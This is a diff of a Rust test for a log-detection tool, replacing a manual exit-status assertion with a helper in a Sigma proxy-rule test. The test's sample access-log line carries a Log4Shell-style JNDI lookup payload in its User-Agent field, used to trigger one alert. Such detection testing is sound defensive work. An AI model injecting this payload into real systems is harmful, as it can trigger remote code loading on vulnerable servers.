@@ -9,7 +9,7 @@ use arrow::record_batch::RecordBatch;
 use gatewatch_ingest::{ColumnSet, EventBatchBuilder, Provenance, RawEvent};
 use gatewatch_rules::{compile_set, RuleFiles, SigmaOptions};
 
-use crate::support::{alerts_of, gatewatch};
+use crate::support::{alerts_of, gatewatch, gatewatch_ok};
 
 /// SigmaHQ's 150 web-server and proxy rules, as copied into the repository (the rule
 /// directory is read recursively, as `--rules` reads it).
@@ -509,7 +509,7 @@ fn the_config_files_sigma_table_selects_proxy_rules_beside_the_sink_settings() {
     );
     // `run` reads the same file for its sinks and its [sigma] table.
     let line = "203.0.113.9 - - [01/Jan/2026:00:00:00 +0000] \"GET / HTTP/1.1\" 200 12 \"-\" \"${jndi:ldap://x/a}\"\n";
-    let out = gatewatch(
+    let out = gatewatch_ok(
         &[
             "run",
             "--rules",
@@ -523,11 +523,6 @@ fn the_config_files_sigma_table_selects_proxy_rules_beside_the_sink_settings() {
             "--no-summary",
         ],
         Some(line.as_bytes()),
-    );
-    assert!(
-        out.status.success(),
-        "{}",
-        String::from_utf8_lossy(&out.stderr)
     );
     let alerts = alerts_of(&out);
     assert_eq!(alerts.len(), 1);
